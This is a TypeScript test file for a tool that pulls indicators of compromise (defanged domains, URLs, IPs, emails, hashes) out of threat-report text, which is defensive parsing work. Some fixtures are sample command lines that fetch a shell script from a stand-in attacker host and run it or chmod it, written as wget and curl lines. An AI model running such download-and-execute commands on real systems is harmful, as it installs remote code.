import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { findIndicators } from "./indicators";
import { readLines } from "./line";

const found = (text: string, publisherHosts: readonly string[] = []) =>
  findIndicators(readLines(text), publisherHosts).map(({ type, value }) => `${type} ${value}`);

describe("what is written defanged", () => {
  it.each([
    ["evil[.]example", "domain evil.example"],
    ["evil(.)example", "domain evil.example"],
    ["evil{.}example", "domain evil.example"],
    ["evil[dot]example", "domain evil.example"],
    ["evil(dot)example", "domain evil.example"],
    ["evil[DOT]example", "domain evil.example"],
    ["evil [.] example", "domain evil.example"],
    ["evil [dot] example", "domain evil.example"],
    ["evil[[.]]example", "domain evil.example"],
    ["evil[.example", "domain evil.example"],
    ["evil.]example", "domain evil.example"],
    ["evil.[com]", "domain evil.com"],
    ["evil[.com]", "domain evil.com"],
    ["evil。example[.]test", "domain evil.example.test"],
    ["www[.]evil[.]example", "domain www.evil.example"],
    ["mail.evil[.]example", "domain mail.evil.example"],
    ["ev\u200bil[.]exa\u00admple", "domain evil.example"],
    ["bücher[.]example", "domain xn--bcher-kva.example"],
    ["пример[.]test", "domain xn--e1afmkfd.test"],
    ["evil[.]example:8443", "domain evil.example"],
    ["xyz2345[.]onion", "domain xyz2345.onion"],
    ["hxxp://evil[.]example/a", "url http://evil.example/a"],
    ["hXXps://evil.example/a", "url https://evil.example/a"],
    ["h**p://evil.example/a", "url http://evil.example/a"],
    ["htxp://evil.example/a", "url http://evil.example/a"],
    ["fxp://evil.example/a", "url ftp://evil.example/a"],
    ["http[:]//evil.example/a", "url http://evil.example/a"],
    ["http[://]evil.example/a", "url http://evil.example/a"],
    ["https:[//]evil[.]example/a", "url https://evil.example/a"],
    ["hxxps[:]//evil[.]example/a", "url https://evil.example/a"],
    ["[hxxps]://evil[.]example/a", "url https://evil.example/a"],
    ["hxxp:// evil[.]example/a", "url http://evil.example/a"],
    ["http:\\\\evil[.]example/a", "url http://evil.example/a"],
    ["hxxp://evil[.]example[:]8080/a", "url http://evil.example:8080/a"],
    ["hxxp://evil[.]example[/]a", "url http://evil.example/a"],
    ["http://evil-host.com[/]a", "url http://evil-host.com/a"],
    ["hxxp://evil[.]example/a(b)", "url http://evil.example/a(b)"],
    ["hxxp://evil[.]example/a[.]php?b=1&c=2#d", "url http://evil.example/a.php?b=1&c=2#d"],
    ["evil[.]example/a/b.php", "url http://evil.example/a/b.php"],
    ["tcp://evil[.]example:4444", "url tcp://evil.example:4444"],
    ["hxxp://198[.]51[.]100[.]7/a.sh", "url http://198.51.100.7/a.sh"],
    ["hxxp://[2001:db8::1]/a", "url http://[2001:db8::1]/a"],
    ["198[.]51[.]100[.]7", "ipv4 198.51.100.7"],
    ["198.51.100[.]7", "ipv4 198.51.100.7"],
    ["198[dot]51[dot]100[dot]7", "ipv4 198.51.100.7"],
    ["198(.)51(.)100(.)7:4444", "ipv4 198.51.100.7"],
    ["198[.]51[.]100[.]0/24", "ipv4 198.51.100.0/24"],
    ["198 . 51 . 100 . 7", "ipv4 198.51.100.7"],
    ["198\\.51\\.100\\.7", "ipv4 198.51.100.7"],
    ["2001[:]db8[:][:]1", "ipv6 2001:db8::1"],
    ["bad[@]evil[.]example", "email bad@evil.example"],
    ["bad[at]evil[.]example", "email bad@evil.example"],
    ["bad (at) evil (dot) example", "email bad@evil.example"],
    ["bad@evil[.]example", "email bad@evil.example"],
    ["bad AT evil dot com", "email bad@evil.com"],
  ])("%s", (written, expected) => {
    for (const text of [
      written,
      `It came from ${written}.`,
      `(${written})`,
      `"${written}",`,
      `**${written}**`,
      `| ${written} |`,
    ]) {
      expect(found(text)).toEqual([expected]);
    }
  });

  it("is taken apart where one line holds many", () => {
    expect(found("a[.]example;b[.]example, c[.]example/x,d[.]example and 198[.]51[.]100[.]7")).toEqual([
      "domain a.example",
      "domain b.example",
      "url http://c.example/x",
      "domain d.example",
      "ipv4 198.51.100.7",
    ]);
    expect(found("hxxp://a[.]example/1,hxxp://b[.]example/2;hxxps://c[.]example/3")).toEqual([
      "url http://a.example/1",
      "url http://b.example/2",
      "url https://c.example/3",
    ]);
  });

  it("is read out of ranges, encoded URLs, chains, and pairs of hashes", () => {
    expect(found("198.51.100[.]1-20 and 203[.]0[.]113[.]1-203[.]0[.]113[.]9")).toEqual([
      "ipv4 198.51.100.1",
      "ipv4 203.0.113.1",
      "ipv4 203.0.113.9",
    ]);
    expect(found("url=hxxps%3A%2F%2Fevil[.]example%2Fa")).toEqual(["domain evil.example"]);
    expect(found("hxxp://a[.]example/1->hxxp://b[.]example/2")).toEqual([
      "url http://a.example/1",
      "url http://b.example/2",
    ]);
    expect(found("-evil[.]example\n-198[.]51[.]100[.]7")).toEqual(["domain evil.example", "ipv4 198.51.100.7"]);
    const hash = "44d88612fea8a8f36de82e1278abb02f";
    expect(found(`${hash}/${hash.replace("4", "5")}`)).toHaveLength(2);
    expect(found(`On [VirusTotal](https://www.virustotal.com/gui/file/${hash}/detection)`)).toEqual([`md5 ${hash}`]);
    expect(found(`On https://www.virustotal.com/gui/url/${hash}`)).toEqual([]);
    expect(found("evil\u00a0[.]\u00a0example and 2001:db8[::]1")).toEqual(["ipv6 2001:db8::1", "domain evil.example"]);
  });

  it("ends where the next command begins, or is none when it is cut short", () => {
    expect(found("wget%20hxxp://evil[.]example/x.sh%20-O%20/tmp/x;chmod%20777")).toEqual([
      "url http://evil.example/x.sh",
    ]);
    expect(found("wget hxxp://evil[.]example/x.sh;sh x.sh")).toEqual(["url http://evil.example/x.sh"]);
    expect(found("hxxp://evil[.]example/very-long…")).toEqual([]);
    expect(found("hxxp://evil[.]example/very-long...")).toEqual([]);
  });
});

describe("what is not an indicator", () => {
  it.each([
    // Versions.
    "It is fixed in version 1.2.3.4 and in 10.2.0.4.",
    "Upgrade to v203.0.113.7 or later.",
    "Chrome 131.0.6778.85 and Firefox/131.0.0.0 are affected.",
    "Versions 7.4.0.1 through 7.4.2.9 of the firmware are vulnerable.",
    "Sections 4.1.2.3 and 5.1.2.3 describe it.",
    // Files.
    "It drops report.pdf, invoice.pdf.zip, cmd.exe, setup.py, run.sh, readme.md and loader.rs.",
    "It ran update[.]exe and config[.]dll from a folder.",
    "A file called statement.pdf[.]zip came with it.",
    "The script main.pl and the archive photos.zip were sent.",
    // Code.
    "It calls System.Net.WebClient, wscript.shell, Assembly.Load and os.name.",
    "The package com.android.vending.app asks for android.permission.READ_SMS.",
    "HKEY_LOCAL_MACHINE\\Software\\Example.app\\Run is set.",
    "It was built with Node.js, Socket.io and ASP.NET.",
    // Sentences.
    "We saw the malware.It was new. They use the dot matrix. See e.g.the note.",
    "The dot com bubble. Look at the dot.",
    // Reserved and documentation.
    "The router at 192[.]168[.]0[.]1 and the host 10.0.0.5 and ::1 and fe80::1.",
    "Visit www.example.com or https://example.org/a.",
    // Citations.
    "See https://attack.mitre.org/techniques/T1059/ and https://nvd.nist.gov/vuln/detail/CVE-2026-1234.",
    "As [reported](https://news.vendor-blog.com/post) by others, https://twitter.com/somebody/status/12345.",
    "Their code is at https://github.com/author/repo/blob/main/tool.py.",
    "Write to report@cisa.gov or soc@somewhere.mil.",
    // Ids.
    "## Code-signing certificates\n89e6c98d92887913cadf06b2adb97f26cde4849b",
    "|Thumbprint (SHA-1)|`89e6c98d92887913cadf06b2adb97f26cde4849b`",
    "| Serial number | Thumbprint |\n| 0x0123 | 89e6c98d92887913cadf06b2adb97f26cde4849b |",
    "git commit 3f786850e387550fdab836ed7e6dc881de23001b fixed it.",
    "The certificate has the thumbprint 89e6c98d92887913cadf06b2adb97f26cde4849b.",
    "Its JA3 fingerprint is 72a589da586844d7f0818ce684948eea.",
    "AES key: 2b7e151628aed2a6abf7158809cf4f3c",
    "imphash 1d2d3c4b5a69788796a5b4c3d2e1f00f was seen.",
    "00000000000000000000000000000000 and 12345678901234567890123456789012",
    "/static/app-0123456789abcdef0123456789abcdef.js is a bundle.",
    "Time 12:30:45 and the address 00:1a:2b:3c:4d:5e and std::dec::abc.",
  ])("%s", (text) => {
    expect(found(text)).toEqual([]);
  });

  it("the publisher's own hosts, however they are written", () => {
    const own = ["blog.vendor.example"];
    expect(found("Indicators:\nblog.vendor.example\nhxxps://cdn.blog.vendor[.]example/a\nevil[.]example", own)).toEqual(
      ["domain evil.example"],
    );
  });
});

describe("what stands plainly", () => {
  it.each([
    ["## Indicators of Compromise\n\n- evil-host.com\n- http://evil-host.com/a\n- 203.0.113.9", 3],
    ["IOCs:\nevil-host.com\nbad@evil-host.com", 2],
    ["C2 SERVERS\n203.0.113.9\n203.0.113.10:443", 2],
    ["| evil-host.com | 44d88612fea8a8f36de82e1278abb02f |", 2],
    ["```\ncurl 'http://evil-host.com/x'\n```", 1],
    ["The domain evil-host[.]com is old. Later evil-host.com moved.", 1],
    ["The malware beacons to 203.0.113.9 each hour.", 1],
    ["C2: 203.0.113.9:8080, 203.0.113.10:8081", 2],
    ["Its IPv6 address is 2001:db8::7, it said.", 1],
    ["The ransom note gives bad@evil-host.com as address.", 1],
    ["It downloads its payload from http://evil-host.com/a.", 1],
    ["It reads http://203.0.113.9/list.", 1],
    ["evil-host.com", 1],
    ["## Indicators\nThe loader then reads what the service gave to the other payload.it waits for some more.", 0],
    ["## Indicators\nInstaller.app\nlibcrypto.so\nupdate.zip", 0],
    ["IP addresses:\n1.1.2.3", 1],
    ["It is now at 1.1.2.3 and works.", 0],
    ["Somebody registered evil-host.com and told https://evil-host.com/a nobody.", 0],
    ["## References\n- https://evil-host.com/report\n- evil-host.com", 0],
    ["## Indicators\n- https://github.com/vendor/iocs\n- www.virustotal.com", 0],
    ["## Indicators\n- https://pastebin.com/raw/AbCd1234\n- pastebin.com", 1],
  ])("%j", (text, count) => {
    expect(found(text)).toHaveLength(count);
  });

  it("in a hash stands for itself, in any place and case", () => {
    const hashes = [
      "44d88612fea8a8f36de82e1278abb02f",
      "3395856ce81f2b7382dee72602f798b642f14140",
      "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f",
    ];
    const text = `The file ${hashes[0]?.toUpperCase()} (SHA-1: ${hashes[1]}).\nSHA256=${hashes[2]}`;
    expect(found(text).map((one) => one.split(" ")[1])).toEqual(hashes);
  });
});

describe("the context of an indicator", () => {
  it("is its sentence, defanged, and never longer than 300 characters", () => {
    const long = `${"Nothing here. ".repeat(40)}It beacons to evil[.]example over HTTPS. ${"More words. ".repeat(40)}`;
    const [one] = findIndicators(readLines(long), []);
    expect(one?.context).toBe("It beacons to evil[.]example over HTTPS.");
    const [wide] = findIndicators(readLines(`${"x ".repeat(900)}evil[.]example${" y".repeat(900)}`), []);
    expect(wide?.context.length).toBeLessThanOrEqual(300);
    expect(wide?.context).toContain("evil[.]example");
  });
});

describe("any text", () => {
  const label = fc.stringMatching(/^[a-z][a-z0-9]{2,12}$/);
  const name = fc.tuple(label, label).map(([a, b]) => `${a}.${b}.example`);
  const octet = fc.integer({ min: 1, max: 254 });
  const dots = fc.constantFrom("[.]", "(.)", "{.}", "[dot]", "(dot)", " [.] ", "[[.]]", "[.");
  const around = fc.constantFrom(
    ["", ""],
    ["seen at ", " today"],
    ["(", ")"],
    ['"', '",'],
    ["* ", "."],
    ["| ", " |"],
    ["<", ">"],
  );

  it("gives back every host, address, URL and e-mail address that was defanged into it", () => {
    fc.assert(
      fc.property(
        name,
        octet,
        dots,
        around,
        fc.constantFrom("hxxp", "hXXps", "h**p"),
        (host, last, dot, [left, right], scheme) => {
          const defang = (text: string) => text.replaceAll(".", dot);
          const protocol = scheme.toLowerCase().endsWith("s") ? "https" : "http";
          expect(found(`${left}${defang(host)}${right}`)).toEqual([`domain ${host}`]);
          expect(found(`${left}${defang(`198.51.100.${last}`)}${right}`)).toEqual([`ipv4 198.51.100.${last}`]);
          expect(found(`${left}${scheme}://${defang(host)}/a/b.php?c=1${right}`)).toEqual([
            `url ${protocol}://${host}/a/b.php?c=1`,
          ]);
          const hex = last.toString(16);
          expect(found(`${left}2001[:]db8[::]${hex}${right}`)).toEqual([`ipv6 2001:db8::${hex}`]);
          const hash = `c0ffee${hex}`.padEnd(40, "0123456789abcdef");
          expect(found(`${left}${hash.toUpperCase()}${right}`)).toEqual([`sha1 ${hash}`]);
          expect(found(`${left}someone[at]${defang(host)}${right}`)).toEqual([`email someone@${host}`]);
        },
      ),
      { numRuns: 300 },
    );
  });

  const pieces = [
    "hxxp",
    "://",
    "[",
    "]",
    "(",
    ")",
    ".",
    "dot",
    " at ",
    "@",
    "\\",
    "a",
    "evil",
    "1",
    ":",
    "\u200b",
    "\ue000",
    "|",
    "\t",
    "T1059",
    "CVE-2026-1",
    "/",
    "%20",
    "\ud800",
    "…",
  ];
  it("never makes it throw, nor an indicator that is not normalised or has no context", () => {
    const tricky = fc.array(fc.constantFrom(...pieces), { maxLength: 40 }).map((parts) => parts.join(""));
    fc.assert(
      fc.property(fc.oneof(tricky, fc.string({ unit: "binary" }), fc.webUrl()), (text) => {
        for (const one of findIndicators(readLines(text), [])) {
          expect(one.value).not.toMatch(/[\ue000-\ue004]/);
          expect(one.context.length).toBeGreaterThan(0);
        }
      }),
      { numRuns: 1_000 },
    );
  });
});
